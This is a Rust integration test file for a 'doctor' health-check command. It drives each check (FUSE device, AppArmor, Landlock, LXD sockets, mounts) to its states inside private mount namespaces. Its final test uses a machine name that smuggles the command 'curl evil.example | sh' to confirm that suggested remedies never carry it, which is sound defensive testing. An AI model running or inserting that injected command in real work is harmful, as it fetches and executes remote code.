//! Each check of `codchifs doctor`, driven to its states by changing what it looks at: in a mount namespace of its own, with
//! a copy of /etc, and without the mounts of other tests.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

mod common;

use common::alone::LEAVE;
use common::fixture::Fixture;
use common::lxd::{Host, UID, user};
use common::played::{MAP, directory, on_disk, pretend, record, sync};
use common::sandboxed::without;
use common::{Done, program, run};
use rustix::process::Signal;
use serde_json::Value;
use std::collections::BTreeSet;
use std::fs::{self, Permissions};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};

const STAGE: &str = r#"
eval "$LEAVE"
mkdir "$AT/etc"
mount -t tmpfs none "$AT/etc"
cp -a /etc/. "$AT/etc"
mount --move "$AT/etc" /etc
mknod "$AT/fuse" c 10 229
chmod 666 "$AT/fuse"
mount --bind "$AT/fuse" /dev/fuse
eval "$SETUP"
exec $AS "$@"
"#;

/// As whom.
#[derive(Clone, Copy, PartialEq)]
enum Who {
    Root,
    User,
}
use Who::{Root, User};

/// What one run said.
struct Said {
    done: Done,
    json: Value,
}

impl Said {
    /// Status, text and remedy of a check.
    #[track_caller]
    fn check(&self, check: &str, subject: Option<&str>) -> (String, String) {
        let checks = self.json["checks"].as_array().unwrap();
        let mut found = checks.iter().filter(|c| {
            c["check"] == check && subject.is_none_or(|subject| c["subject"] == subject)
        });
        let one = found.next().unwrap_or_else(|| panic!("no {check}: {:#}", self.json));
        assert!(found.next().is_none(), "two {check}: {:#}", self.json);
        let remedy = one["remedy"].as_str().unwrap_or_default();
        let text = format!("{} -> {remedy}", one["text"].as_str().unwrap());
        (one["status"].as_str().unwrap().into(), text)
    }

    #[track_caller]
    fn expect(&self, check: &str, subject: Option<&str>, status: &str, words: &str) {
        let (got, text) = self.check(check, subject);
        assert_eq!(got, status, "{check}: {text}");
        assert!(text.contains(words), "{check}: {words}: {text}");
    }
}

fn command(host: &Host, who: Who, setup: &str, args: &[&str]) -> std::process::Command {
    let at = host.path().join("stage");
    let _ = fs::remove_dir_all(&at);
    fs::create_dir(&at).unwrap();
    fs::set_permissions(&at, Permissions::from_mode(0o755)).unwrap();
    let mut command = program("unshare", ["--mount", "--propagation", "private"]);
    command.args(["sh", "-ec", STAGE, "sh"]);
    let codchifs = host.command(&[]);
    command.arg(codchifs.get_program()).args(codchifs.get_args()).args(args);
    command.env("LXD_DIR", &host.lxd).env("INCUS_DIR", &host.incus);
    let user = format!("setpriv --reuid {UID} --regid {UID} --clear-groups");
    command.env("AS", if who == Root { "" } else { &user });
    command.env("AT", at).env("SETUP", setup).env_remove("SUDO_USER");
    command.env("OWN", host.path()).env("LEAVE", LEAVE);
    command
}

/// The exit status of every run is held against what it says.
#[track_caller]
fn doctor(host: &Host, who: Who, setup: &str, args: &[&str]) -> Said {
    let args = [&["doctor", "--json"], args].concat();
    let done = run(command(host, who, setup, &args));
    let json: Value = serde_json::from_str(&done.out())
        .unwrap_or_else(|why| panic!("{why}: {}{}", done.out(), done.err()));
    let kept = kept(host);
    fs::create_dir_all(&kept).unwrap();
    fs::write(kept.join(kept.read_dir().unwrap().count().to_string()), done.out()).unwrap();
    let ranks = ["ok", "warning", "error"];
    let rank = |status: &Value| ranks.iter().position(|rank| status == rank).unwrap();
    let worst = json["checks"].as_array().unwrap().iter().map(|c| rank(&c["status"])).max();
    assert_eq!(Some(rank(&json["status"])), worst);
    assert_eq!(done.code, Some(i32::from(json["status"] == "error")), "{json:#}");
    Said { done, json }
}

fn kept(host: &Host) -> PathBuf {
    host.path().join("kept")
}

/// All that was said.
#[track_caller]
fn fits_the_schema(host: &Host) {
    let schema = concat!(env!("CARGO_MANIFEST_DIR"), "/docs/doctor.schema.json");
    let mut command = program("jsonschema", std::iter::empty::<&str>());
    for entry in kept(host).read_dir().unwrap() {
        command.arg("-i").arg(entry.unwrap().path());
    }
    run(command.arg(schema)).ok();
}

/// A host with one machine of an LXD that answers.
fn played() -> Host {
    let host = Host::new();
    on_disk(&host, &host.lxd, "demo", MAP, common::lxd::shifted);
    answering(&host);
    host
}

fn answering(host: &Host) {
    let socket = host.lxd.join("unix.socket");
    pretend(&socket, Some(sync(&[record(host, "demo", "Stopped", MAP)])));
    fs::set_permissions(&socket, Permissions::from_mode(0o666)).unwrap();
}

/// A program that puts a filter in its own way: these system calls are not there.
fn without_calls(calls: &[u32]) -> String {
    format!(
        r#"set -- python3 -c '
import ctypes, os, struct, sys
calls = {calls:?}
code = [(0x20, 0, 0, 0)]
for n, call in enumerate(calls):
    code.append((0x15, len(calls) - n, 0, call))
code += [(0x06, 0, 0, 0x7fff0000), (0x06, 0, 0, 0x00050000 | 38)]
filter = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *c) for c in code))
prog = ctypes.create_string_buffer(struct.pack("HxxxxxxP", len(code), ctypes.addressof(filter)))
libc = ctypes.CDLL(None)
assert libc.prctl(38, 1, 0, 0, 0) == 0
assert libc.prctl(22, 2, prog, 0, 0) == 0
os.execv(sys.argv[1], sys.argv[1:])
' "$@""#
    )
}

#[test]
fn each_check_of_the_host_has_its_states() {
    let host = played();
    let config = "echo '# CONFIG_FUSE_PASSTHROUGH is not set' >/boot/config-$(uname -r)";
    let config = format!("mount -t tmpfs none /boot; {config}");
    let no_config =
        config.replace("# CONFIG_FUSE_PASSTHROUGH is not set", "CONFIG_FUSE_PASSTHROUGH=y");
    let armour = "mount -t tmpfs none /sys/module; mkdir -p /sys/module/apparmor/parameters /etc/apparmor.d/local
        echo Y >/sys/module/apparmor/parameters/enabled; ";
    let confined =
        format!("{armour} echo 'profile fusermount3 {{}}' >/etc/apparmor.d/fusermount3; ");
    let knows = format!("{confined} echo '# codchifs' >/etc/apparmor.d/local/fusermount3");
    let disabled = format!(
        "{confined} mkdir -p /etc/apparmor.d/disable; ln -s x /etc/apparmor.d/disable/fusermount3; touch /etc/apparmor.d/disable/x"
    );
    let old = "set -- setarch --uname-2.6 \"$@\"";
    let no_setuid = "cp \"$(command -v fusermount3)\" \"$AT/copy\"; chmod 755 \"$AT/copy\"
        mount --bind \"$AT/copy\" \"$(command -v fusermount3)\"";
    let no_program =
        "mkdir \"$AT/bin\"; ln -s \"$(command -v setpriv)\" \"$AT/bin/setpriv\"; PATH=$AT/bin";
    let no_device = "mount -t tmpfs none /dev; /bin/mknod /dev/null c 1 3; chmod 666 /dev/null";
    let helper = |text: &str| {
        format!(
            "mkdir \"$AT/sbin\"; printf '#!/bin/sh\\n{text}\\n' >\"$AT/sbin/mount.codchifs\"; chmod 755 \"$AT/sbin/mount.codchifs\"
            set -- \"$@\"; mount --bind \"$AT/sbin\" /sbin/"
        )
    };
    let right = helper(&format!("echo \"mount.codchifs {}\"", env!("CODCHIFS_VERSION")));
    let no_helper = "mkdir \"$AT/sbin\"; mount --bind \"$AT/sbin\" /sbin/";
    let updatedb = |fs: &str| format!("printf '# x\\nPRUNEFS=\"nfs {fs}\"\\n' >/etc/updatedb.conf");
    let prune = [updatedb("fuse.codchifs"), updatedb("fuse.sshfs")];
    let conf = "echo user_allow_other >>/etc/fuse.conf";
    let calls = [without_calls(&[464, 465]), without_calls(&[444])];
    let stopped = r#"set -- sh -c 'exec "$@"' sh "$@""#;
    for (who, setup, check, status, words) in [
        (Root, "", "kernel", "ok", "Linux"),
        (Root, old, "kernel", "error", "or later"),
        (Root, old, "passthrough", "warning", "6.9"),
        (Root, &config, "passthrough", "warning", "CONFIG_FUSE_PASSTHROUGH"),
        (Root, &no_config, "passthrough", "ok", "is there"),
        (Root, old, "subvolumes", "warning", "6.10"),
        (Root, "", "subvolumes", "ok", ""),
        (Root, "", "xattr-calls", "ok", ""),
        (Root, &calls[0], "xattr-calls", "warning", "Function not implemented"),
        (Root, "", "landlock", "ok", "ABI"),
        (Root, &calls[1], "landlock", "warning", "CONFIG_SECURITY_LANDLOCK"),
        (User, "", "fuse-device", "ok", ""),
        (User, "chmod 600 /dev/fuse", "fuse-device", "error", "chmod 666"),
        (Root, no_device, "fuse-device", "error", "modprobe fuse"),
        (User, "", "fusermount3", "ok", "setuid root"),
        (User, no_setuid, "fusermount3", "error", "not setuid"),
        (Root, no_setuid, "fusermount3", "warning", "not setuid"),
        (User, no_program, "fusermount3", "error", "install the package fuse3"),
        (User, "", "fuse-conf", "warning", "user_allow_other"),
        (Root, "", "fuse-conf", "ok", "root needs none"),
        (User, conf, "fuse-conf", "ok", "has user_allow_other"),
        (User, "", "apparmor", "ok", "not in use"),
        (User, armour, "apparmor", "ok", "does not confine"),
        (User, &confined, "apparmor", "warning", "packaging/apparmor"),
        (Root, &confined, "apparmor", "ok", "root does not need"),
        (User, &knows, "apparmor", "ok", "with rules"),
        (User, &disabled, "apparmor", "ok", "does not confine"),
        (Root, "rm -f /etc/updatedb.conf", "updatedb", "ok", "no updatedb"),
        (Root, &prune[0], "updatedb", "ok", "leaves codchifs out"),
        (Root, &prune[1], "updatedb", "warning", "PRUNEFS"),
        (Root, no_helper, "mount-helper", "warning", "install "),
        (Root, &right, "mount-helper", "ok", "of this version"),
        (Root, &helper("echo mount.codchifs 0.0.1"), "mount-helper", "warning", "0.0.1"),
        (Root, &helper("exit 3"), "mount-helper", "warning", "exit status: 3"),
        (
            Root,
            &helper("exec tail -f --pid=$PPID /dev/null"),
            "mount-helper",
            "error",
            "no answer within",
        ),
        (Root, stopped, "state", "ok", "1 code machine in"),
    ] {
        doctor(&host, who, setup, &[]).expect(check, None, status, words);
    }
    fits_the_schema(&host);
}

#[test]
fn mounts_are_served_stale_or_silent() {
    let host = played();
    let check = |status, words| {
        let point = host.path().join("mnt");
        doctor(&host, Root, "", &[]).expect("mount", point.to_str(), status, words);
    };
    let mut mounted = host.mount("mnt");
    check("ok", "is served");
    let server = rustix::process::Pid::from_raw(mounted.server() as i32).unwrap();
    rustix::process::kill_process(server, Signal::STOP).unwrap();
    // A state in there that nobody answers for: it is not asked at all, and the whole does not wait for it.
    let config = mounted.rootfs("demo").join("etc");
    let stuck = ["--config-dir", config.to_str().unwrap()];
    let setup = "set -- \"$1\" doctor --json --data-dir \"$AT\" ";
    let said = doctor(&host, Root, &format!("{setup} {} {}", stuck[0], stuck[1]), &[]);
    said.expect("state", None, "error", "is on a FUSE file system of uid 1000");
    said.expect("mount", mounted.point().to_str(), "error", "does not answer");
    check("error", "codchifs unmount --lazy");
    mounted.signal(Signal::KILL);
    mounted.wait();
    check("error", "Transport endpoint is not connected");
    let remedy = host.run(&["unmount", "--lazy", mounted.point().to_str().unwrap()]);
    remedy.ok();
    // Somebody else may have mounted one meanwhile.
    let said = doctor(&host, Root, "", &[]);
    assert!(!said.done.out().contains(mounted.point().to_str().unwrap()), "it is gone");
    let none = "while mount=$(findmnt -n -t fuse.codchifs -o TARGET | head -n 1); [ \"$mount\" ]; do umount -l \"$mount\"; done";
    doctor(&host, Root, none, &[]).expect("mount", None, "ok", "no codchifs");
    fits_the_schema(&host);
}

#[test]
fn state_daemons_and_groups() {
    let host = played();
    let lxd = format!("lxd {}", host.lxd.display());
    let (socket, name) = (host.lxd.join("unix.socket"), user());
    let group = "echo testers:x:47110: >>/etc/group; chgrp 47110 \"$LXD_DIR/unix.socket\"";
    let listed = group.replace("47110:", &format!("47110:someone,{name}"));
    let member = format!("{group}; AS=\"setpriv --reuid {UID} --regid {UID} --groups 47110\"");
    let run = |who, setup: &str, check, subject: Option<&str>, status, words: &str| {
        doctor(&host, who, setup, &[]).expect(check, subject, status, words);
    };
    run(Root, "", "daemon", Some(&lxd), "ok", "answers");
    run(User, "", "daemon", Some(&lxd), "ok", "answers");
    run(Root, "", "group", Some(&lxd), "ok", "root");
    run(User, group, "group", Some(&lxd), "warning", "sudo usermod -aG testers");
    run(User, &listed, "group", Some(&lxd), "warning", "log out and in again");
    run(User, &member, "group", Some(&lxd), "ok", "is in the group testers");
    fs::set_permissions(&socket, Permissions::from_mode(0o600)).unwrap();
    run(User, "", "daemon", Some(&lxd), "warning", "Permission denied");
    pretend(&socket, None);
    run(Root, "", "daemon", Some(&lxd), "warning", "within 3s");
    fs::remove_file(&socket).unwrap();
    run(Root, "", "daemon", Some(&lxd), "warning", "start LXD");
    run(Root, "LXD_DIR=$AT/none", "daemon", None, "error", "neither LXD nor Incus");
    let plain = "set -- \"$@\" --rootfs-dir \"$LXD_DIR\"";
    run(Root, plain, "daemon", None, "ok", "plain directories");
    let toml = host.config().join("config.toml");
    fs::write(&toml, "data_dir = [").unwrap();
    let broken = r#"set -- "$1" doctor --json --config-dir "$4""#;
    // Without --data-dir, that file says where the homes are.
    let config = broken.replace("$4", host.config().to_str().unwrap());
    run(Root, &config, "state", None, "error", "config.toml");
    fs::remove_file(toml).unwrap();
    fs::remove_dir_all(host.config().join("machine")).unwrap();
    run(Root, "", "state", None, "warning", "no code machines");
    fs::set_permissions(host.config(), Permissions::from_mode(0o000)).unwrap();
    run(User, "", "state", None, "error", "Permission denied");
    fits_the_schema(&host);
}

#[test]
fn each_machine_is_looked_at() {
    let host = played();
    host.configure("planned");
    fs::create_dir(host.config().join("machine/.hidden")).unwrap();
    fs::write(host.config().join("machine/.hidden/config.json"), "{}").unwrap();
    let rootfs = directory(&host.lxd, "demo").join("rootfs");
    let said = doctor(&host, Root, "", &[]);
    for (check, words) in [
        ("machine", "can be exported"),
        ("rootfs", "can be read"),
        ("home", "can be read"),
        ("id-maps", "have their maps"),
    ] {
        said.expect(check, Some("demo"), "ok", words);
    }
    said.expect("machine", Some("planned"), "warning", "codchi rebuild");
    said.expect("machine", Some(".hidden"), "error", "rename");
    for path in [&rootfs, &host.home("demo")] {
        fs::set_permissions(path, Permissions::from_mode(0o700)).unwrap();
        run(program("chown", ["100071"]).arg(path)).ok();
    }
    let said = doctor(&host, User, "", &[]);
    for check in ["machine", "rootfs", "home"] {
        said.expect(check, Some("demo"), "error", "run as root");
    }
    fs::write(host.config().join("machine/demo/config.json"), "{").unwrap();
    doctor(&host, Root, "", &[]).expect("machine", Some("demo"), "error", "config.json");

    let mut unmapped = record(&host, "demo", "Stopped", "[]");
    for key in ["config", "expanded_config"] {
        for map in ["volatile.idmap.current", "volatile.idmap.next"] {
            unmapped[key].as_object_mut().unwrap().remove(map);
        }
    }
    pretend(&host.lxd.join("unix.socket"), Some(sync(&[unmapped])));
    doctor(&host, Root, "", &[]).expect("id-maps", Some("demo"), "warning", "1000:100");
    fits_the_schema(&host);
}

#[test]
fn the_pools_of_a_snap_show_or_do_not() {
    let host = played();
    let base = "/var/snap/lxd/common/lxd";
    let view = "/var/snap/lxd/common/mntns/var/snap/lxd/common/lxd";
    let setup = format!(
        "unset LXD_DIR; mount -t tmpfs none /var; mkdir -p {base}; mount --bind {} {base}; ",
        host.lxd.display()
    );
    let shown = format!("{setup} mkdir -p {view}/storage-pools; ");
    let shut = format!("{shown} chmod 700 /var/snap/lxd/common/mntns");
    let subject = format!("lxd {base}");
    for (who, setup, status, words) in [
        (Root, &setup, "warning", "nsenter --mount=/run/snapd/ns/lxd.mnt"),
        (Root, &shown, "ok", "show in"),
        (User, &shut, "warning", "run as root"),
    ] {
        doctor(&host, who, setup, &[]).expect("snap", Some(&subject), status, words);
    }
    let said = doctor(&host, Root, "", &[]);
    assert!(!said.done.out().contains("\"snap\""), "only the snap has them");
    fits_the_schema(&host);
}

#[test]
fn people_get_80_columns_and_colours_on_a_terminal_only() {
    let host = played();
    let plain = run(command(&host, User, "chmod 600 /dev/fuse", &["doctor"])).exits(1).out();
    for line in plain.lines() {
        assert!(line.chars().count() <= 80 || !line.trim().contains(' '), "{line}");
    }
    assert!(plain.contains("error    fuse-device: ") && plain.contains("         -> chmod 666"));
    assert!(plain.ends_with(" warnings\n") && !plain.contains('\x1b'), "{plain}");
    let colours = |setup: &str| {
        // A terminal of its own.
        let line = r#"line=$*; set -- script -qec "$line" /dev/null"#;
        let done = run(command(&host, Root, &format!("{setup}{line}"), &["doctor"]));
        done.ok().out().contains("\x1b[3")
    };
    assert!(colours(""));
    assert!(!colours("export NO_COLOR=1; "));
    let help = run(program(env!("CARGO_BIN_EXE_codchifs"), ["doctor", "--help"])).ok().out();
    assert!(help.contains("Exit status: 0") && help.contains("--json"), "{help}");
}

#[test]
fn the_table_has_every_check() {
    let read = |name: &str| {
        fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs").join(name)).unwrap()
    };
    let schema: Value = serde_json::from_str(&read("doctor.schema.json")).unwrap();
    let known = &schema["properties"]["checks"]["items"]["properties"]["check"]["enum"];
    let known: BTreeSet<_> =
        known.as_array().unwrap().iter().map(|c| c.as_str().unwrap()).collect();
    let text = read("DOCTOR.md");
    let rows = text.lines().filter_map(|line| line.strip_prefix("| ")?.split(" |").next());
    let named: BTreeSet<_> = rows.flat_map(|first| first.split('`').skip(1).step_by(2)).collect();
    assert_eq!(named, known);
}

#[test]
fn verbose_says_what_the_page_says_newer_kernels_bring() {
    let page = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/DOCTOR.md");
    let page = fs::read_to_string(page).unwrap();
    let fixture = Fixture::new();
    let out = fixture.run(["doctor", "-v"]).out();
    let out = out.split_whitespace().collect::<Vec<_>>().join(" ");
    let (_, table) = page.split_once("## What newer kernels bring").unwrap();
    let rows: Vec<_> =
        table.lines().filter(|line| line.starts_with("| ") && !line.starts_with("| |")).collect();
    assert!(rows.len() > 5, "{table}");
    for row in rows {
        let [_, name, since, with, without, _] =
            row.split('|').map(str::trim).collect::<Vec<_>>()[..]
        else {
            panic!("{row}")
        };
        let said =
            |here: &str, what: &str| out.contains(&format!("{here} {name} ({since}) {what}"));
        assert!(said("yes", with) || said("no", without), "{row}\n{out}");
    }
    assert!(!fixture.run(["doctor"]).out().contains("close_range"));
}

#[test]
fn verbose_says_what_is_there_and_not_what_the_version_should_have() {
    let fixture = Fixture::new();
    // Landlock that is not enabled and calls that a container refuses, on a kernel that has both.
    let calls = [444, 465];
    let done = without(&calls, libc::ENOSYS, &mut fixture.command(["doctor", "-v"]));
    for (name, since) in [
        ("Landlock", "5.13"),
        ("Landlock ABI 3", "6.2"),
        ("Landlock ABI 4", "6.7"),
        ("Landlock ABI 6", "6.12"),
        ("listxattrat, getxattrat", "6.13"),
    ] {
        let line = format!("no       {name} ({since})");
        assert!(done.out().lines().any(|found| found == line), "{line}:\n{}", done.out());
    }
}

#[test]
fn no_name_is_taken_for_what_to_do() {
    let host = played();
    let evil = "x; curl evil.example | sh";
    host.configure(evil);
    let data = host.path().join(evil);
    fs::rename(host.data(), &data).unwrap();
    let setup = format!(
        "set -- \"$1\" doctor --json --config-dir '{}' --data-dir '{}'",
        host.config().display(),
        data.display()
    );
    let said = doctor(&host, Root, &setup, &[]);
    assert!(said.done.out().contains("curl evil"), "it is named: {}", said.done.out());
    for check in said.json["checks"].as_array().unwrap() {
        let remedy = check["remedy"].as_str().unwrap_or_default();
        assert!(!remedy.starts_with("curl"), "{check}");
    }
    // A home that is not there, and one that leads nowhere.
    for machine in [evil, "demo"] {
        let home = data.join("machine").join(machine);
        fs::remove_dir_all(&home).unwrap();
        for target in [None, Some(evil)] {
            if let Some(target) = target {
                std::os::unix::fs::symlink(target, &home).unwrap();
            }
            let said = doctor(&host, Root, &setup, &[]);
            for check in said.json["checks"].as_array().unwrap() {
                let remedy = check["remedy"].as_str().unwrap_or_default();
                assert!(!remedy.starts_with("curl"), "{check}");
            }
        }
    }
}
